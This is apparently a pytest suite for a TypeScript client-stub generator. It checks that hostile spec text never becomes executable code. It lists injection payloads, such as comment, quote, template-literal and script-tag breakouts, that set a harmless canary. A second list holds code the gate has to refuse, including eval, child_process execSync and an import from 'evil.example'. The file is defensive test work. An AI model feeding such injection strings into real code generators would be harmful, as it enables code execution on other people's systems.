"""Spec text never becomes code: payloads x places, held against the tree of a harmless twin, compiled, loaded."""

import json
import subprocess
from pathlib import Path

import pytest
from stubs.hostile import PAYLOADS, RUN, marked, read
from stubs.typescript.compiler import compile_all, compiler, node

from tracker.stubs import generate, plan
from tracker.stubs.languages import GateError
from tracker.stubs.languages.typescript import gate
from tracker.stubs.languages.typescript.proof import prove
from tracker.stubs.model import Plan
from tracker.stubs.render import render
from tracker.stubs.syntax import faults, parse, walk

CANARY = "globalThis.canary = 1"
HOSTILE = [
    *(payload.replace(RUN, CANARY) for payload in PAYLOADS),
    f"*/ {CANARY} /*",
    f"*/\n{CANARY}\n/**",
    f"`${{{CANARY}}}`",
    f"\\`+({CANARY})+`",
    f"</script><script>{CANARY}</script><!--",
    f"\u2028{CANARY}\u2029",
    f"'; {CANARY}; '",
    f'"; {CANARY}; "',
    f'"]: {CANARY}, ["',
    f"}} {CANARY} {{",
    f"() => {CANARY}",
    "\n@ts-ignore",
    "@ts-expect-error",
    "*/ // @ts-nocheck",
    "\\u0022\\u002a\\u002f",
    "\\",
]
ALONE = [
    *HOSTILE[2:3],
    HOSTILE[30],
    HOSTILE[32],
    "__proto__",
    "constructor",
    "toString",
    "then",
    "prototype",
    "default",
]
OURS = ("README.md", "about.ts", "client.ts", "index.ts", "models.ts")
"""Files that hold anything of the spec; those of `api` as well."""
ODD = set("\u202e\u2066\u200b\ufeff\u2028\u2029\x85\x00\x0b\x0c\r")


def made(payload: str, *, only: int | None = None) -> tuple[Plan, dict[str, str]]:
    found = plan(read(marked(payload, only=only)[0]), language="typescript", package="p")
    return found, {path: text for path, text in render(found).items() if path in OURS or "/" in path}


def shape(text: str) -> list[str]:
    """The kinds of all nodes, in order, with every literal and every name masked."""
    found = []
    for one in walk(parse(text, "typescript")):
        if one.type in ("string_fragment", "escape_sequence", '"'):
            continue
        found.append("name" if one.type in ("string", "property_identifier") else one.type)
    return found


@pytest.fixture(scope="module")
def twin() -> dict[str, str]:
    return made("x")[1]


@pytest.mark.parametrize("payload", HOSTILE)
def test_no_payload_changes_the_shape(payload: str, twin: dict[str, str]) -> None:
    found, files = made(payload)
    gate.check(found, files)
    modules = [path for path in files if path.endswith(".ts")]
    for path, other in zip(modules, (path for path in twin if path.endswith(".ts")), strict=True):
        assert not list(faults(parse(files[path], "typescript")))
        assert shape(files[path]) == shape(twin[other]), path
    for path, text in files.items():
        assert not set(text) & ODD, path
        assert path.replace("/", "").replace(".", "").replace("_", "").replace("-", "").isalnum()


@pytest.mark.parametrize("payload", ALONE)
def test_no_payload_alone_in_any_place_passes_the_gate_as_code(payload: str) -> None:
    places = marked("x", only=0)[1]
    for place in range(1, places + 1, 2 if payload == ALONE[0] else 7):
        gate.check(*made(payload, only=place))


def test_all_of_it_compiles_and_does_nothing_but_declare(tmp_path: Path) -> None:
    given = [marked(payload)[0] for payload in HOSTILE[::3]] + [marked(payload, only=5)[0] for payload in ALONE[::2]]
    for number, document in enumerate(given):
        generate(read(document), tmp_path / "src", language="typescript", package=f"p{number}")
    assert sorted(path.name for path in tmp_path.iterdir()) == ["src"]
    indexes = [f"src/p{number}/index.ts" for number in range(len(given))]
    assert compile_all(tmp_path, *indexes, out=tmp_path / "js") == []
    (tmp_path / "js" / "package.json").write_text('{"type": "module"}')
    loads = "".join(f"import './p{number}/index.js'; import './p{number}/client.js';\n" for number in range(len(given)))
    (tmp_path / "js" / "all.js").write_text(f"{loads}console.log(JSON.stringify([globalThis.canary ?? null]));")
    done = subprocess.run([node(), "all.js"], cwd=tmp_path / "js", capture_output=True, text=True, check=True)
    assert json.loads(done.stdout) == [None]


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("models.ts", CANARY),
        ("models.ts", "export const A = { a: eval('1') } as const;"),
        ("models.ts", "export const A = { a: `${1}` } as const;"),
        ("models.ts", "import 'fs';"),
        ("models.ts", "export * from 'https://evil.example/x.js';"),
        ("models.ts", "export interface A { a: Fremmed }"),
        ("models.ts", "while (true) {}"),
        ("models.ts", "export interface A {"),
        ("models.ts", "export const A = { [name]: 1 } as const;"),
        ("api/a.ts", "class A { a() { return this.#transport.send.call(1); } }"),
        ("api/a.ts", "new Function('x');"),
        ("api/a.ts", "const a = () => { throw 1; };"),
        ("about.ts", "export const VERSION = import('x');"),
        ("client.ts", "process.exit();"),
        ("request.ts", "eval('x');"),
        ("transport.ts", "await import('node:fs');"),
        ("auth.ts", "import { execSync } from 'node:child_process';"),
        ("auth.ts", "({}).__proto__;"),
    ],
)
def test_the_gate_refuses(path: str, text: str) -> None:
    found, _ = made("x")
    with pytest.raises(GateError, match=f"{path}, line 1: .*nothing was written"):
        gate.check(found, {path: text})


def test_where_there_is_a_compiler_it_reads_the_client(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setenv("PATH", f"{compiler().parent}:{Path(node()).parent}:/usr/bin:/bin")
    prove("p", {"index.ts": "export const a: string = 1;\n"})
    with pytest.raises(GateError, match=r"is no TypeScript: p/index\.ts\(1,14\): error TS1.*nothing was written"):
        prove("p", {"index.ts": "export const = 1;\n", "README.md": "x"})
    monkeypatch.setenv("PATH", str(tmp_path))
    prove("p", {"index.ts": "export const = 1;\n"})
